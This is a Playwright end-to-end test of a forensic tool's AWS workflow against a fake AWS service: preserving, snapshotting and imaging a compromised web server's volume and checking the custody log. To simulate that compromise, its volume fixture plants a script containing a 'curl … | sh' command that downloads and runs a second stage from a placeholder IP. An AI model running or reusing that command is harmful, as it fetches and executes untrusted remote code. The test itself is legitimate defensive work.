/**
 * The AWS tab end to end in Debian's Chromium against the protocol-level AWS fake (in this process) and the
 * real host (child process, pointed at a temporary AWS profile): connect, discover, open the instance,
 * preflight (one permission denied), preserve (confirmed), snapshot (confirmed), image the snapshot, capture context; the
 * image's SHA-256 on screen equals `sha256sum` of the ext4 image the fake served, and the custody log shows
 * the request ids of the preservation calls. Screenshots: test-output/screenshots/aws-*.png.
 */
import { expect, test } from '@playwright/test';
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { FIXTURE, startAwsFake, VICTIM_ACCOUNT_ID, type AwsFake } from '../aws-fake/index.js';
import { ensureBuilt, startHostProcess, type HostProcess } from './browser-host.js';
import { awsHostEnv, createCase, firstRun, screenshotter, tearDown, watchProblems } from './e2e-steps.js';

const missing = ['mkfs.ext4', 'sha256sum'].filter((t) => spawnSync('sh', ['-c', `command -v ${t}`]).status !== 0);
const MIB = 1024 * 1024;

let tmp: string;
let host: HostProcess | undefined;
let fake: AwsFake | undefined;
let volumeImage: string;

/** A 1 GiB volume (the fake's smallest): a 64 MiB ext4 file system made with `mkfs.ext4 -d`, a hole, a marker block near the end. */
function buildVolume(dir: string): string {
  const tree = path.join(dir, 'tree');
  fs.mkdirSync(path.join(tree, 'var', 'www', 'html'), { recursive: true });
  fs.mkdirSync(path.join(tree, 'tmp'), { recursive: true });
  fs.writeFileSync(path.join(tree, 'var', 'www', 'html', 'index.html'), '<h1>deployed by pipeline</h1>\n');
  fs.writeFileSync(path.join(tree, 'tmp', 'payload.sh'), '#!/bin/sh\ncurl -s http://198.51.100.7/stage2 | sh\n'.repeat(50));
  const fsImg = path.join(dir, 'fs.ext4');
  execFileSync('truncate', ['-s', '64M', fsImg]);
  execFileSync('mkfs.ext4', ['-q', '-F', '-L', 'web-data', '-d', tree, fsImg], { stdio: 'pipe' });
  const out = path.join(dir, 'volume.img');
  fs.closeSync(fs.openSync(out, 'w'));
  fs.truncateSync(out, 1024 * MIB);
  const fd = fs.openSync(out, 'r+');
  try {
    const src = fs.readFileSync(fsImg);
    fs.writeSync(fd, src, 0, src.length, 0);
    fs.writeSync(fd, Buffer.from('caseward e2e marker past a 700 MiB hole\n'), 0, undefined, 800 * MIB + 4096);
  } finally {
    fs.closeSync(fd);
  }
  fs.rmSync(fsImg);
  return out;
}

test.beforeAll(async () => {
  if (missing.length > 0) return;
  ensureBuilt();
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'caseward-e2e-aws-'));
  volumeImage = buildVolume(tmp);
  fake = await startAwsFake({ snapshotCompletionMs: 3000 });
  // The data volume becomes 1 GiB and serves the ext4 image, so its snapshot's image is exactly that file.
  fake.state.volumes.get(FIXTURE.webDataVolumeId)!.sizeGiB = 1;
  fake.state.setVolumeImage(FIXTURE.webDataVolumeId, volumeImage);
  // One denial, so the preflight has something to explain.
  fake.state.policy.deny('ec2:CreateSecurityGroup');
  host = await startHostProcess(path.join(tmp, 'user-data'), path.join(tmp, 'cases'), awsHostEnv(tmp));
});

test.afterAll(() => tearDown({ host, tmp, fake }));

const shot = screenshotter('aws-');

test('connect, discover, preflight, preserve, snapshot and image; the image hash equals sha256sum of the served volume', async ({ page }) => {
  if (missing.length > 0) console.warn(`AWS e2e skipped: ${missing.join(', ')} not installed`);
  test.skip(missing.length > 0, `needs ${missing.join(', ')}`);
  test.setTimeout(240_000);
  const problems = watchProblems(page);
  const f = fake!;

  await firstRun(page, host!.url);
  await createCase(page, { number: 'CW-2026-077', title: 'Web server web-1 compromise' });

  // Connect: the profile comes from the temporary AWS files; the identity is shown and stays visible.
  await page.getByRole('tab', { name: 'AWS' }).click();
  await page.getByLabel('Profile').selectOption('victim');
  await expect(page.getByLabel('Regions')).toHaveValue('us-east-1');
  // A bad endpoint is refused with a sentence, before anything is sent.
  await page.getByLabel('Endpoint override (optional)').fill('http://198.51.100.1:8080');
  await page.getByRole('button', { name: 'Connect', exact: true }).click();
  await expect(page.getByRole('alert')).toContainText('The endpoint must be an https:// URL');
  await page.getByLabel('Endpoint override (optional)').fill(f.endpoint);
  await page.getByRole('button', { name: 'Connect', exact: true }).click();
  await expect(page.getByTestId('aws-account')).toHaveText(VICTIM_ACCOUNT_ID);
  await expect(page.getByTestId('aws-arn')).toContainText(`arn:aws:iam::${VICTIM_ACCOUNT_ID}:`);

  // Discover, then narrow with the tag filter (sent to EC2 as tag:Name=web-1).
  await page.getByRole('button', { name: 'Discover', exact: true }).click();
  const instances = page.getByRole('table', { name: 'Instances' });
  await expect(instances.getByRole('row').filter({ hasText: 'db-1' })).toBeVisible();
  await page.getByRole('button', { name: /^Volumes \(\d+\)$/ }).click();
  await expect(page.getByRole('table', { name: 'Volumes' }).getByRole('row').filter({ hasText: FIXTURE.webDataVolumeId })).toContainText('1 GiB');
  await page.getByRole('button', { name: /^Snapshots \(\d+\)$/ }).click();
  const snapshots = page.getByRole('table', { name: 'Snapshots' });
  await expect(snapshots.getByRole('row').filter({ hasText: FIXTURE.pendingSnapshotId })).toContainText('pending');
  await expect(snapshots.getByRole('button', { name: `Image ${FIXTURE.completedSnapshotId}` })).toBeVisible();
  await shot(page, '00-snapshots');
  await page.getByRole('button', { name: /^Instances \(\d+\)$/ }).click();
  await page.getByLabel('Tag filter').fill('Name=web-1');
  await page.getByRole('button', { name: 'Discover again' }).click();
  await expect(instances.getByRole('row').filter({ hasText: 'db-1' })).toHaveCount(0);
  const web = instances.getByRole('row').filter({ hasText: 'web-1' });
  await expect(web).toContainText('198.51.100.10');
  await shot(page, '01-discover');

  // The instance: user data decoded, rules, interfaces, IAM.
  // Keyboard: the row takes focus, Enter opens it.
  await web.focus();
  await page.keyboard.press('Enter');
  await expect(page.getByRole('heading', { name: new RegExp(FIXTURE.webInstanceId) })).toBeVisible();
  await expect(page.getByLabel('User data (decoded)')).toContainText('yum install -y httpd');
  await expect(page.getByRole('table', { name: `Rules of ${FIXTURE.sshGroupId}` })).toContainText('203.0.113.0/24');
  await expect(page.getByRole('table', { name: 'Network interfaces' })).toContainText(FIXTURE.webEniId);
  await expect(page.getByRole('region', { name: 'IAM instance profile and role policies' })).toContainText(FIXTURE.roleName);
  await shot(page, '02-instance');
  await page.getByRole('table', { name: `Rules of ${FIXTURE.sshGroupId}` }).scrollIntoViewIfNeeded();
  await shot(page, '02-instance-rules');

  // Preflight: preservation and snapshot actions are locked until it ran; the denial names the permission.
  await expect(page.getByRole('button', { name: 'Preserve…' })).toBeDisabled();
  await page.getByRole('button', { name: 'Check permissions' }).click();
  const preflight = page.getByRole('region', { name: 'Permission check' });
  await expect(preflight).toContainText('the credentials lack ec2:CreateSecurityGroup');
  await expect(preflight.getByText('allowed', { exact: true })).toHaveCount(3);
  await shot(page, '03-preflight');

  // Preserve: nothing is sent before the examiner confirms the exact list of changes.
  await page.getByRole('button', { name: 'Preserve…' }).click();
  await page.getByRole('dialog', { name: 'Preserve the instance' }).getByRole('button', { name: 'Review changes…' }).click();
  const confirm = page.getByRole('dialog', { name: 'Confirm changes to the AWS account' });
  await expect(confirm).toContainText(`CasewardCase=CW-2026-077`);
  await expect(confirm).toContainText(`DeleteOnTermination=false on /dev/xvda (${FIXTURE.webRootVolumeId}), /dev/sdf (${FIXTURE.webDataVolumeId})`);
  await shot(page, '04-preserve-confirm');
  expect(f.calls.filter((c) => (c.action === 'CreateTags' || c.action === 'ModifyInstanceAttribute') && !c.dryRun)).toEqual([]);
  await confirm.getByRole('button', { name: 'Apply 3 changes' }).click();
  const result = page.getByRole('dialog', { name: 'Preservation result' });
  await expect(result.getByText('done', { exact: true })).toHaveCount(3);
  const requestIds = (await result.getByTestId('aws-request-id').allTextContents()).map((t) => t.trim());
  expect(requestIds.length).toBeGreaterThanOrEqual(3);
  for (const id of requestIds) expect(f.calls.some((c) => c.requestId === id && !c.dryRun)).toBe(true);
  expect(f.state.instances.get(FIXTURE.webInstanceId)!.disableApiTermination).toBe(true);
  await shot(page, '05-preserve-result');
  await result.getByRole('button', { name: 'Close', exact: true }).click();

  // Snapshot the data volume only, confirmed; the job's progress shows in the drawer.
  await page.getByRole('button', { name: 'Snapshot…' }).click();
  const snapDialog = page.getByRole('dialog', { name: 'Snapshot volumes' });
  await snapDialog.getByRole('checkbox', { name: new RegExp(FIXTURE.webRootVolumeId) }).uncheck();
  await snapDialog.getByRole('button', { name: 'Review…' }).click();
  const snapConfirm = page.getByRole('dialog', { name: 'Confirm snapshots' });
  await expect(snapConfirm).toContainText(FIXTURE.webDataVolumeId);
  expect(f.calls.filter((c) => c.action === 'CreateSnapshots' && !c.dryRun)).toEqual([]);
  await snapConfirm.getByRole('button', { name: 'Create 1 snapshot' }).click();
  const requested = page.getByRole('dialog', { name: 'Snapshots requested' });
  const snapshotId = /snap-[0-9a-f]+/.exec((await requested.textContent()) ?? '')?.[0];
  expect(snapshotId).toBeTruthy();
  await requested.getByRole('button', { name: 'Close', exact: true }).click();
  await expect(page.getByRole('region', { name: 'Jobs' }).getByRole('listitem', { name: /Wait for EBS snapshots/ })).toBeVisible();
  await shot(page, '06-snapshot-running');

  // Image the completed snapshot (concurrency default 64); the hash on screen equals sha256sum of the served file.
  const acquisitions = page.getByRole('region', { name: 'Acquisitions in this case' });
  await acquisitions.getByRole('button', { name: `Image ${snapshotId}` }).click({ timeout: 60_000 });
  const imageDialog = page.getByRole('dialog', { name: `Image ${snapshotId}` });
  await expect(imageDialog.getByLabel('Concurrent block requests')).toHaveValue('64');
  await imageDialog.getByRole('button', { name: 'Start imaging' }).click();
  const expected = execFileSync('sha256sum', [volumeImage]).toString().split(' ')[0]!;
  await expect(acquisitions.getByTestId('aws-image-sha256')).toHaveText(expected, { timeout: 150_000 });
  await shot(page, '07-imaged');

  // Context capture: read-only in AWS, each part its own artifact; the console output is captured first.
  await page.getByRole('button', { name: 'Capture context…' }).click();
  await page.getByRole('dialog', { name: 'Capture instance context' }).getByRole('button', { name: 'Capture 9 parts' }).click();
  const capture = acquisitions.getByRole('listitem', { name: /Capture context of/ });
  await expect(capture).toContainText('succeeded', { timeout: 60_000 });
  await expect(capture).toContainText('9 parts captured as artifacts, 0 empty, 0 failed');
  expect(f.calls.filter((c) => c.action === 'GetConsoleOutput')).toHaveLength(1);

  // Custody: the preservation events carry the request ids shown in the result.
  await page.getByRole('tab', { name: 'Custody log' }).click();
  for (const action of ['aws.tagged', 'aws.termination-protected', 'aws.delete-on-termination-disabled']) {
    await page.getByRole('row').filter({ hasText: action }).first().getByRole('button', { name: /Details of event/ }).click();
  }
  for (const id of requestIds) await expect(page.locator('pre.json', { hasText: id }).first()).toBeVisible();
  await expect(page.getByRole('row').filter({ hasText: 'aws.snapshots-created' })).toHaveCount(1);
  await expect(page.getByRole('row').filter({ hasText: 'aws.snapshot-completed' })).toHaveCount(1);
  await shot(page, '08-custody');
  expect(problems).toEqual([]);
});
